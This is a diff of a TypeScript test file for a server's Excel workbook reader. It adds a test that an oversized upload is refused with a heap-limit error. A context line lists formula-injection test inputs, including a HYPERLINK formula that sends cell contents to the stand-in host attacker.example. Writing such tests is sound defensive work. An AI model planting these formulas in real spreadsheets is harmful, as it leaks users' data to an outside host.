@@ -3,6 +3,7 @@ import { readExecutionTableWorkbook } from '../../../server/services/execution-t
 import { WorkbookReaders } from '../../../server/services/execution-tables/excel/read-in-worker.js';
 import { readXlsx } from '../../../server/services/execution-tables/excel/xlsx-reader.js';
 import { DEFAULT_WORKBOOK_LIMITS, loadConfig } from '../../../server/shared/config.js';
+import { cell, withRows } from './hostile-xlsx.js';
 import { exportToBuffer, FORMATTERS, isKnownOwner, ROWS } from './workbook-fixtures.js';
 
 const FORMULAS = ['=HYPERLINK("http://attacker.example/?d="&A1,"Click for details")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
@@ -61,6 +62,24 @@ describe('the streaming reader', () => {
       const all = await Promise.all([1, 2, 3].map(() => readers.read(data, choice)));
       expect(all.map((sheets) => sheets.map((sheet) => sheet.name))).toEqual([1, 2, 3].map(() => ['Execution table', 'KPI targets']));
       expect(all[2]).toEqual(all[0]);
+    } finally {
+      await readers.close();
+    }
+  });
+
+  test('a file that needs more memory than the thread may have is refused naming the heap limit; the next upload is read', async () => {
+    const readers = new WorkbookReaders({ ...DEFAULT_WORKBOOK_LIMITS, heapMb: 16, rows: 1_000_000 });
+    try {
+      const book = XLSX.utils.book_new();
+      XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet([['ID', 'Phase']]), 'Execution table');
+      const small = XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
+      const rows = Array.from({ length: 300_000 }, (_, n) => `<row r="${n + 2}">${cell(`A${n + 2}`, `phase number ${n}`)}</row>`).join('');
+      const choice = { table: ['execution table'], kpi: [] };
+      await expect(readers.read(withRows(small, rows), choice)).rejects.toMatchObject({
+        code: 'payload_too_large',
+        details: { limit: 'WORKBOOK_PARSE_HEAP_MB', maximum: 16 },
+      });
+      expect((await readers.read(small, choice))[0]!.rows).toHaveLength(1);
     } finally {
       await readers.close();
     }
